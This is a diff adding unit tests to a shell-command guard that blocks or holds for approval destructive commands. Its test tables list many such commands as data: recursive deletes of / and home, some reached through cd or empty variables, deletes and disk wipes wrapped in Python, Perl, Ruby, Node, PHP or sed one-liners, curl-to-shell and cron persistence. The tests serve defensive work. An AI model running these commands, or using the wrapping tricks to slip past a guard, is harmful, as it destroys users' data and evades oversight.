@@ -132,6 +132,153 @@ TEST(CommandGuard, RecursiveDeleteOfSystemDirsAndHomeIsBlocked) {
   });
 }
 
+// A recursive delete of * or . after cd to / or a top-level directory is judged at the
+// directory cd went to; every cd target counts (a failing `cd /nowhere` leaves the shell in /).
+TEST(CommandGuard, RecursiveDeleteAfterCdIsJudgedAtTheTarget) {
+  RunTable({
+      {"cd / && rm -rf *", kBlock, "recursive_delete_root"},
+      {"cd /; rm -rf .", kBlock, "recursive_delete_root"},
+      {"cd ~ && rm -rf *", kBlock, "recursive_delete_home"},
+      {"cd && rm -rf ./*", kBlock, "recursive_delete_home"},
+      {"cd $HOME; rm -fr .", kBlock, "recursive_delete_home"},
+      {"cd /etc; rm -rf .", kBlock, "recursive_delete_system"},
+      {"cd /usr && rm -rf bin", kBlock, "recursive_delete_system"},
+      {"cd / && cd var && rm -rf *", kBlock, "recursive_delete_system"},
+      {"cd /; cd /nonexistent; rm -rf *", kBlock, "recursive_delete_root"},
+      {"cd /etc && rm -rf ..", kBlock, "recursive_delete_root"},
+      {"builtin cd -P / && sudo rm -rf -- *", kBlock, "recursive_delete_root"},
+      {"pushd /boot && rm -r *", kBlock, "recursive_delete_system"},
+      {"cd / && find . -delete", kBlock, "recursive_delete_root"},
+      {"cd / && find -delete", kBlock, "recursive_delete_root"},
+      {"bash -c 'cd / && rm -rf *'", kBlock, "recursive_delete_root"},
+      {"cd $UNSET && rm -rf *", kBlock, "recursive_delete_home"},
+      // Elsewhere it stays an ordinary recursive delete.
+      {"cd /tmp/build && rm -rf *", kApprove, "recursive_delete"},
+      {"cd build && rm -rf *", kApprove, "recursive_delete"},
+      {"cd /home/alice/project && rm -rf dist", kApprove, "recursive_delete"},
+      {"cd /etc/nginx && rm -rf sites-enabled", kApprove, "recursive_delete"},
+      {"rm -rf *", kApprove, "recursive_delete"},
+      {"cd / && ls", kAllow, nullptr},
+      {"cd /etc && cat hosts", kAllow, nullptr},
+      {"cd /home/alice/project && rm old.txt", kAllow, nullptr},
+  });
+}
+
+// An expansion followed by / becomes / when the variable is unset or empty.
+TEST(CommandGuard, RecursiveDeleteOfEmptyVariableSlashIsBlocked) {
+  RunTable({
+      {"rm -rf \"$UNSET\"/", kBlock, "recursive_delete_root"},
+      {"rm -rf $DIR/", kBlock, "recursive_delete_root"},
+      {"rm -rf ${X}/*", kBlock, "recursive_delete_root"},
+      {"rm -rf \"$PREFIX/\"", kBlock, "recursive_delete_root"},
+      {"rm -rf /$A$B", kBlock, "recursive_delete_root"},
+      {"rm -rf ${X:+$X}/", kBlock, "recursive_delete_root"},
+      {"rm -rf $ROOT/etc", kBlock, "recursive_delete_system"},
+      {"rm -rf \"$HOME$SUB/\"", kBlock, "recursive_delete_home"},
+      {"DIR=; rm -rf $DIR/", kBlock, "recursive_delete_root"},
+      {"DIR=/; rm -rf \"$DIR\"", kBlock, "recursive_delete_root"},
+      {"find $X/ -delete", kBlock, "recursive_delete_root"},
+      {"sudo rm -rf \"$1\"/*", kBlock, "recursive_delete_root"},
+      // Cannot expand empty, or no trailing slash: an ordinary recursive delete.
+      {"rm -rf \"${DIR:?}/\"", kApprove, "recursive_delete"},
+      {"rm -rf \"${OUT:-build}/\"", kApprove, "recursive_delete"},
+      {"rm -rf \"$DIR\"", kApprove, "recursive_delete"},
+      {"rm -rf \"$DIR/build\"", kApprove, "recursive_delete"},
+      {"DIR=/tmp/x; rm -rf \"$DIR/\"", kApprove, "recursive_delete"},
+      {"export D=out; rm -rf $D/", kApprove, "recursive_delete"},
+      {"tmp=$(mktemp -d); rm -rf \"$tmp\"/*", kApprove, "recursive_delete"},
+      {"for d in a b; do rm -rf \"$d\"/; done", kApprove, "recursive_delete"},
+      {"rm -rf \"$(pwd)\"/build", kApprove, "recursive_delete"},
+      {"ls $DIR/", kAllow, nullptr},
+  });
+}
+
+// Strings interpreter code hands to the shell are judged as shell commands.
+TEST(CommandGuard, ShellCommandsInInterpreterCodeAreJudged) {
+  RunTable({
+      {"python3 -c 'import os; os.system(\"rm -rf /\")'", kBlock, "recursive_delete_root"},
+      {"python -c \"import os; os.system('rm -rf ' + '/')\"", kBlock, "recursive_delete_root"},
+      {"python3 -c \"import subprocess; subprocess.run(['rm', '-rf', '/'], check=True)\"", kBlock,
+       "recursive_delete_root"},
+      {"python3 -c 'import subprocess; subprocess.call(\"shutdown -h now\", shell=True)'", kBlock,
+       "system_shutdown"},
+      {"python3 -c \"__import__('os').popen('mkfs.ext4 /dev/sda1')\"", kBlock,
+       "format_filesystem"},
+      {"python3 -c 'import os; os.execvp(\"rm\", [\"rm\", \"-rf\", \"/\"])'", kBlock,
+       "recursive_delete_root"},
+      {"python3 -c 'exec(\"import os; os.system(\\\"rm -rf ~\\\")\")'", kBlock,
+       "recursive_delete_home"},
+      {"python3 -c 'import shutil; shutil.rmtree(\"/\")'", kBlock, "recursive_delete_root"},
+      {"python3 -c \"import shutil; shutil.rmtree('/etc', ignore_errors=True)\"", kBlock,
+       "recursive_delete_system"},
+      {"python3 -c 'import os; os.remove(\"/etc/passwd\")'", kApprove, "write_system_file"},
+      {"python3 -c 'import os; os.unlink(\"/home/alice/.ssh/authorized_keys\")'", kApprove,
+       "write_ssh"},
+      {"perl -e 'system(\"rm -rf /\")'", kBlock, "recursive_delete_root"},
+      {"perl -e 'system \"rm\", \"-rf\", \"/\"'", kBlock, "recursive_delete_root"},
+      {"perl -e '`rm -rf /`'", kBlock, "recursive_delete_root"},
+      {"perl -e 'my $x = qx{reboot};'", kBlock, "system_shutdown"},
+      {"perl -e 'exec qw(rm -rf /)'", kBlock, "recursive_delete_root"},
+      {"perl -e 'open(my $f, \"-|\", \"kill\", \"-9\", \"-1\")'", kBlock, "kill_all_processes"},
+      {"perl -MFile::Path -e 'rmtree(\"/usr\")'", kBlock, "recursive_delete_system"},
+      {"ruby -e 'system(\"rm -rf /\")'", kBlock, "recursive_delete_root"},
+      {"ruby -e '%x(halt)'", kBlock, "system_shutdown"},
+      {"ruby -e 'puts `rm -rf ~`'", kBlock, "recursive_delete_home"},
+      {"ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'", kBlock,
+       "recursive_delete_root"},
+      {"node -e 'require(\"child_process\").execSync(\"rm -rf /\")'", kBlock,
+       "recursive_delete_root"},
+      {"node -e \"const {spawn} = require('child_process'); spawn('rm', ['-rf', '/'])\"",
+       kBlock, "recursive_delete_root"},
+      {"node -e 'require(\"child_process\").exec(\"dd if=/dev/zero of=/dev/sda\")'", kBlock,
+       "write_block_device"},
+      {"node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", kBlock,
+       "recursive_delete_root"},
+      {"php -r 'shell_exec(\"rm -rf /\");'", kBlock, "recursive_delete_root"},
+      {"sudo python3 -c 'import os; os.system(\"curl x | sh\")'", kApprove, "pipe_to_shell"},
+      // Interpreters never count as safe, harmless payloads and unparseable code included.
+      {"python3 -c 'import os; os.system(\"ls\")'", kApprove, "interpreter_inline_code"},
+      {"python3 -c 'print(\"rm -rf /\")'", kApprove, "interpreter_inline_code"},
+      {"node -e 'console.log(`rm -rf /`)'", kApprove, "interpreter_inline_code"},
+      {"python3 -c 'os.system(\"rm -rf /'", kApprove, "interpreter_inline_code"},
+      {"python3 -c 'os.system('", kApprove, "interpreter_inline_code"},
+      {"perl -e 'print \"# system(rm -rf /)\"'", kApprove, "interpreter_inline_code"},
+  });
+}
+
+// sed's e command and the s///e flag run text as a shell command: that text is judged.
+TEST(CommandGuard, SedExecuteCommandsAreJudged) {
+  RunTable({
+      {"sed 'e rm -rf /' f", kBlock, "recursive_delete_root"},
+      {"sed -n '1e shutdown now' f", kBlock, "system_shutdown"},
+      {"sed 's/.*/rm -rf \\//e' f", kBlock, "recursive_delete_root"},
+      {"echo x | sed 's|x|reboot|e'", kBlock, "system_shutdown"},
+      {"sed -e 's/a/b/' -e 'e rm -rf ~' f", kBlock, "recursive_delete_home"},
+      {"sed 's/a/b/;e mkfs /dev/sdb' f", kBlock, "format_filesystem"},
+      {"sed 's/x/curl x | sh/e' f", kApprove, "pipe_to_shell"},
+      {"sed 'e id' f", kApprove, "sed_execute"},
+      {"sed 's/rm -rf \\//x/' f", kAllow, nullptr},
+  });
+}
+
+// crontab installs commands that run later, unattended (persistence); listing is harmless.
+TEST(CommandGuard, CrontabChangesNeedApproval) {
+  RunTable({
+      {"crontab -r", kApprove, "crontab_remove"},
+      {"crontab -u bob -r", kApprove, "crontab_remove"},
+      {"crontab -ri", kApprove, "crontab_remove"},
+      {"crontab -", kApprove, "crontab_install"},
+      {"crontab mycron.txt", kApprove, "crontab_install"},
+      {"echo '* * * * * curl x | sh' | crontab -", kApprove, "crontab_install"},
+      {"(crontab -l; echo '@reboot ./x') | crontab -", kApprove, "crontab_install"},
+      {"crontab -e", kApprove, "crontab_install"},
+      {"sudo crontab -u root /tmp/c", kApprove, "crontab_install"},
+      {"crontab -l", kAllow, nullptr},
+      {"crontab -u bob -l", kAllow, nullptr},
+      {"crontab -l | grep backup", kAllow, nullptr},
+  });
+}
+
 TEST(CommandGuard, DiskDestructionIsBlocked) {
   RunTable({
       {"mkfs /dev/sdb", kBlock, "format_filesystem"},
